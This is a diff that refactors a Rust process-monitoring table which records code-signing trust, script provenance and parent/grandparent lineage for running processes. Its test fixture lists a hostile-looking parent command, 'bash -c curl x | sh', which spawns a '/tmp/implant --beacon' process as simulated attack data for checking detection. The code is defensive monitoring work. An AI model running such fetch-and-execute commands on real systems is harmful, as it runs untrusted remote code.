@@ -1,9 +1,7 @@
 //! `process_code_signature`: one row per running process — who signed what it runs,
 //! and, for interpreters, the script behind it.
 
-use super::{
-    bigint, indexed, integer, text, Column, QueryContext, Row, TableDef, TableError, Value,
-};
+use super::{Column, QueryContext, Table, TableError, TypedRow};
 use crate::model::Pid;
 use crate::platform::{self, Host};
 use crate::subject::{self, ProcessVerdict};
@@ -12,46 +10,51 @@ use std::sync::Arc;
 
 pub const NAME: &str = "process_code_signature";
 
-pub static COLUMNS: &[Column] = &[
-    indexed(integer("pid", "Process id (INDEX: `pid =` and `pid IN (…)` read only those processes)")),
-    integer("parent", "Parent process id"),
-    text("path", "Executable path"),
-    text("cmdline", "argv joined by spaces"),
-    bigint("uid", "Real user id"),
-    text("parent_path", "Parent's executable path"),
-    integer("signed", "1 if the executable carries any signature or package provenance (ad-hoc included)"),
-    text("trust", "apple, app_store, developer_id, package, adhoc, unsigned, invalid or unknown (see error)"),
-    integer("trusted", "1 iff trust is apple, app_store, developer_id or package"),
-    text("identifier", "Signing identifier (Linux: owning package name)"),
-    text("team_identifier", "Team identifier (empty on Linux)"),
-    text("authority", "Leaf certificate common name (Linux: dpkg or rpm)"),
-    text("cdhash", "Code directory hash (macOS; empty on Linux)"),
-    integer("notarized", "1 if notarized, 0 if not, -1 unknown or not applicable (Linux)"),
-    integer("platform_binary", "1 if an Apple platform binary, 0 if not, -1 on Linux"),
-    text("flags", "Kernel code-signing flags as hex (macOS; empty on Linux)"),
-    text("sha256", "SHA-256 of the executable (always filled when trusted = 0, unless too large: see error)"),
-    text("interpreter", "Interpreter name (python, perl, ruby, sh, bash, zsh, node, osascript, php, tclsh, pwsh…) or empty"),
-    text("script_kind", "file, inline, stdin, module, interactive, or empty for non-interpreters"),
-    text("script_path", "Script file run by the interpreter (absolute)"),
-    text("script_sha256", "SHA-256 of the script file, or of the inline code text"),
-    text("script_trust", "Trust verdict of the script itself (inline code: unsigned; stdin: unknown)"),
-    integer("script_quarantined", "1 if the script carries com.apple.quarantine (macOS; 0 on Linux)"),
-    text("subject_kind", "binary or script: what AN1256 judges"),
-    text("subject_path", "The executable, or the script for interpreters"),
-    integer("subject_trusted", "Trust of the subject (an Apple-signed python running /tmp/x.py is 0)"),
-    text("subject_identity", "Stable baseline key: team:<TEAMID>:<id>, apple:<id>, package:<pkg>:<path>, sha256:<hex>, inline:<interpreter>:<sha256>"),
-    text("cwd", "Current working directory"),
-    bigint("start_time", "Process start time, Unix seconds"),
-    text("username", "Name of the real uid"),
-    text("parent_cmdline", "Parent's argv joined by spaces"),
-    integer("grandparent", "Grandparent process id (0 when unknown)"),
-    text("grandparent_path", "Grandparent's executable path"),
-    text("grandparent_cmdline", "Grandparent's argv joined by spaces"),
-    integer("responsible_pid", "Process macOS holds responsible (the app behind a helper or script; 0 when itself or not applicable, as on Linux)"),
-    text("responsible_path", "Executable of the responsible process"),
-    text("script_origin", "Who downloaded the script: the com.apple.quarantine agent (macOS; empty on Linux)"),
-    text("error", "Why a field could not be filled (permission, vanished, too large…)"),
-];
+super::table_row! {
+    /// One row of `process_code_signature`.
+    pub struct SignatureRow, cells SignatureCells {
+        pid: INTEGER [index] = "Process id (INDEX: `pid =` and `pid IN (…)` read only those processes)",
+        parent: INTEGER = "Parent process id",
+        path: TEXT = "Executable path",
+        cmdline: TEXT = "argv joined by spaces",
+        uid: BIGINT = "Real user id",
+        parent_path: TEXT = "Parent's executable path",
+        signed: INTEGER = "1 if the executable carries any signature or package provenance (ad-hoc included)",
+        trust: TEXT = "apple, app_store, developer_id, package, adhoc, unsigned, invalid or unknown (see error)",
+        trusted: INTEGER = "1 iff trust is apple, app_store, developer_id or package",
+        identifier: TEXT = "Signing identifier (Linux: owning package name)",
+        team_identifier: TEXT = "Team identifier (empty on Linux)",
+        authority: TEXT = "Leaf certificate common name (Linux: dpkg or rpm)",
+        cdhash: TEXT = "Code directory hash (macOS; empty on Linux)",
+        notarized: INTEGER = "1 if notarized, 0 if not, -1 unknown or not applicable (Linux)",
+        platform_binary: INTEGER = "1 if an Apple platform binary, 0 if not, -1 on Linux",
+        flags: TEXT = "Kernel code-signing flags as hex (macOS; empty on Linux)",
+        sha256: TEXT = "SHA-256 of the executable (always filled when trusted = 0, unless too large: see error)",
+        interpreter: TEXT = "Interpreter name (python, perl, ruby, sh, bash, zsh, node, osascript, php, tclsh, pwsh…) or empty",
+        script_kind: TEXT = "file, inline, stdin, module, interactive, or empty for non-interpreters",
+        script_path: TEXT = "Script file run by the interpreter (absolute)",
+        script_sha256: TEXT = "SHA-256 of the script file, or of the inline code text",
+        script_trust: TEXT = "Trust verdict of the script itself (inline code: unsigned; stdin: unknown)",
+        script_quarantined: INTEGER = "1 if the script carries com.apple.quarantine (macOS; 0 on Linux)",
+        subject_kind: TEXT = "binary or script: what AN1256 judges",
+        subject_path: TEXT = "The executable, or the script for interpreters",
+        subject_trusted: INTEGER = "Trust of the subject (an Apple-signed python running /tmp/x.py is 0)",
+        subject_identity: TEXT = "Stable baseline key: team:<TEAMID>:<id>, apple:<id>, package:<pkg>:<path>, sha256:<hex>, inline:<interpreter>:<sha256>",
+        cwd: TEXT = "Current working directory",
+        start_time: BIGINT = "Process start time, Unix seconds",
+        username: TEXT = "Name of the real uid",
+        parent_cmdline: TEXT = "Parent's argv joined by spaces",
+        grandparent: INTEGER = "Grandparent process id (0 when unknown)",
+        grandparent_path: TEXT = "Grandparent's executable path",
+        grandparent_cmdline: TEXT = "Grandparent's argv joined by spaces",
+        responsible_pid: INTEGER = "Process macOS holds responsible (the app behind a helper or script; 0 when itself or not applicable, as on Linux)",
+        responsible_path: TEXT = "Executable of the responsible process",
+        script_origin: TEXT = "Who downloaded the script: the com.apple.quarantine agent (macOS; empty on Linux)",
+        error: TEXT = "Why a field could not be filled (permission, vanished, too large…)",
+    }
+}
+
+pub const COLUMNS: &[Column] = <SignatureRow as TypedRow>::COLUMNS;
 
 pub struct ProcessCodeSignature {
     host: Arc<dyn Host>,
@@ -77,7 +80,7 @@ pub struct Lineage {
 }
 
 /// Builds one row from a verdict (no I/O).
-pub fn build_row(v: &ProcessVerdict, lineage: &Lineage, username: &str) -> Row {
+pub fn build_row(v: &ProcessVerdict, lineage: &Lineage, username: &str) -> SignatureRow {
     let p = &v.process;
     let id = &v.identity;
     let (script_path, script_sha, script_trust) = match &v.script {
@@ -113,66 +116,59 @@ pub fn build_row(v: &ProcessVerdict, lineage: &Lineage, username: &str) -> Row {
     if !v.subject.error.is_empty() {
         errors.push(&subject_error);
     }
-    vec![
-        p.pid.into(),
-        p.parent.into(),
-        p.path.as_str().into(),
-        p.argv.join(" ").into(),
-        p.uid.into(),
-        lineage.parent_path.as_str().into(),
-        id.signed.into(),
-        id.trust.as_str().into(),
-        id.trust.is_trusted().into(),
-        id.identifier.as_str().into(),
-        id.team_identifier.as_str().into(),
-        id.authority.as_str().into(),
-        id.cdhash.as_str().into(),
-        id.notarized.into(),
-        id.platform_binary.into(),
-        id.flags.as_str().into(),
-        id.sha256.as_str().into(),
-        v.interpreter().into(),
-        v.script_kind().into(),
-        script_path.into(),
-        script_sha.into(),
-        script_trust.into(),
-        v.script_quarantined().into(),
-        v.subject.kind.into(),
-        v.subject.path.as_str().into(),
-        v.subject.trusted.into(),
-        v.subject.identity.as_str().into(),
-        p.cwd.as_str().into(),
-        p.start_time.into(),
-        username.into(),
-        lineage.parent_cmdline.as_str().into(),
-        lineage.grandparent.into(),
-        lineage.grandparent_path.as_str().into(),
-        lineage.grandparent_cmdline.as_str().into(),
-        lineage.responsible_pid.into(),
-        lineage.responsible_path.as_str().into(),
-        v.script_identity
+    SignatureRow {
+        pid: p.pid.into(),
+        parent: p.parent.into(),
+        path: p.path.clone(),
+        cmdline: p.argv.join(" "),
+        uid: p.uid,
+        parent_path: lineage.parent_path.clone(),
+        signed: id.signed.into(),
+        trust: id.trust.as_str().into(),
+        trusted: id.trust.is_trusted().into(),
+        identifier: id.identifier.clone(),
+        team_identifier: id.team_identifier.clone(),
+        authority: id.authority.clone(),
+        cdhash: id.cdhash.clone(),
+        notarized: id.notarized.into(),
+        platform_binary: id.platform_binary.into(),
+        flags: id.flags.clone(),
+        sha256: id.sha256.clone(),
+        interpreter: v.interpreter().into(),
+        script_kind: v.script_kind().into(),
+        script_path,
+        script_sha256: script_sha,
+        script_trust: script_trust.into(),
+        script_quarantined: v.script_quarantined().into(),
+        subject_kind: v.subject.kind.into(),
+        subject_path: v.subject.path.clone(),
+        subject_trusted: v.subject.trusted.into(),
+        subject_identity: v.subject.identity.clone(),
+        cwd: p.cwd.clone(),
+        start_time: p.start_time,
+        username: username.into(),
+        parent_cmdline: lineage.parent_cmdline.clone(),
+        grandparent: lineage.grandparent.into(),
+        grandparent_path: lineage.grandparent_path.clone(),
+        grandparent_cmdline: lineage.grandparent_cmdline.clone(),
+        responsible_pid: lineage.responsible_pid.into(),
+        responsible_path: lineage.responsible_path.clone(),
+        script_origin: v
+            .script_identity
             .as_ref()
-            .map(|s| s.quarantine_agent.as_str())
-            .unwrap_or_default()
-            .into(),
-        Value::Text(errors.join("; ")),
-    ]
+            .map(|s| s.quarantine_agent.clone())
+            .unwrap_or_default(),
+        error: errors.join("; "),
+    }
 }
 
-impl TableDef for ProcessCodeSignature {
-    fn name(&self) -> &'static str {
-        NAME
-    }
+impl Table for ProcessCodeSignature {
+    type Row = SignatureRow;
+    const NAME: &'static str = NAME;
+    const DESCRIPTION: &'static str =
+        "One row per running process: the code-trust verdict of its executable and, for interpreters, of the script it runs; `subject_*` is what AN1256 judges.";
 
-    fn description(&self) -> &'static str {
-        "One row per running process: the code-trust verdict of its executable and, for interpreters, of the script it runs; `subject_*` is what AN1256 judges."
-    }
-
-    fn columns(&self) -> &'static [Column] {
-        COLUMNS
-    }
-
-    fn generate(&self, ctx: &QueryContext) -> Result<Vec<Row>, TableError> {
+    fn rows(&self, ctx: &QueryContext) -> Result<Vec<SignatureRow>, TableError> {
         let pids: Option<Vec<Pid>> = ctx.equal_integers("pid").map(|list| {
             list.into_iter()
                 .filter_map(|p| Pid::try_from(p).ok())
@@ -244,7 +240,6 @@ mod tests {
     use super::*;
     use crate::model::ProcessInfo;
     use crate::platform::FakeHost;
-    use crate::tables::column_index;
 
     fn process(pid: Pid, parent: Pid, argv: &[&str]) -> ProcessInfo {
         ProcessInfo {
@@ -255,10 +250,6 @@ mod tests {
             uid: 0,
             ..Default::default()
         }
-    }
-
-    fn cell(row: &Row, name: &str) -> Value {
-        row[column_index(COLUMNS, name).unwrap()].clone()
     }
 
     #[test]
@@ -275,40 +266,28 @@ mod tests {
         });
         let table = ProcessCodeSignature::new(host.clone());
         let by_pid = table
-            .generate(&QueryContext::new().with_equals("pid", "30"))
+            .rows(&QueryContext::new().with_equals("pid", "30"))
             .unwrap();
-        let full = table.generate(&QueryContext::new()).unwrap();
-        let from_scan = full
-            .iter()
-            .find(|r| cell(r, "pid") == Value::Int(30))
-            .unwrap();
+        let full = table.rows(&QueryContext::new()).unwrap();
+        let from_scan = full.iter().find(|r| r.pid == 30).unwrap();
         for row in [&by_pid[0], from_scan] {
-            assert_eq!(cell(row, "parent_path"), Value::from("/bin/bash"));
-            assert_eq!(
-                cell(row, "parent_cmdline"),
-                Value::from("/bin/bash -c curl x | sh")
-            );
-            assert_eq!(cell(row, "grandparent"), Value::Int(10));
-            assert_eq!(cell(row, "grandparent_path"), Value::from("/usr/bin/sshd"));
-            assert_eq!(
-                cell(row, "grandparent_cmdline"),
-                Value::from("/usr/bin/sshd -D")
-            );
-            assert_eq!(cell(row, "cmdline"), Value::from("/tmp/implant --beacon"));
-            assert_eq!(cell(row, "trust"), Value::from("unsigned"));
-            assert_eq!(cell(row, "subject_kind"), Value::from("binary"));
-            assert_eq!(cell(row, "responsible_pid"), Value::Int(10));
-            assert_eq!(cell(row, "responsible_path"), Value::from("/usr/bin/sshd"));
+            assert_eq!(row.parent_path, "/bin/bash");
+            assert_eq!(row.parent_cmdline, "/bin/bash -c curl x | sh");
+            assert_eq!(row.grandparent, 10);
+            assert_eq!(row.grandparent_path, "/usr/bin/sshd");
+            assert_eq!(row.grandparent_cmdline, "/usr/bin/sshd -D");
+            assert_eq!(row.cmdline, "/tmp/implant --beacon");
+            assert_eq!(row.trust, "unsigned");
+            assert_eq!(row.subject_kind, "binary");
+            assert_eq!(row.responsible_pid, 10);
+            assert_eq!(row.responsible_path, "/usr/bin/sshd");
         }
         // uid 0 is root in every passwd file.
-        assert_eq!(cell(&by_pid[0], "username"), Value::from("root"));
+        assert_eq!(by_pid[0].username, "root");
         assert_eq!(full.len(), 4);
         // init has no parent: empty lineage, no lookup of pid 0.
-        let init = full
-            .iter()
-            .find(|r| cell(r, "pid") == Value::Int(1))
-            .unwrap();
-        assert_eq!(cell(init, "parent_path"), Value::from(""));
+        let init = full.iter().find(|r| r.pid == 1).unwrap();
+        assert_eq!(init.parent_path, "");
         assert!(!host.process_calls.lock().unwrap().contains(&0));
     }
 
@@ -316,7 +295,7 @@ mod tests {
     fn vanished_pids_are_skipped_not_errors() {
         let table = ProcessCodeSignature::new(Arc::new(FakeHost::default()));
         let rows = table
-            .generate(&QueryContext::new().with_equals("pid", "4242"))
+            .rows(&QueryContext::new().with_equals("pid", "4242"))
             .unwrap();
         assert!(rows.is_empty());
     }
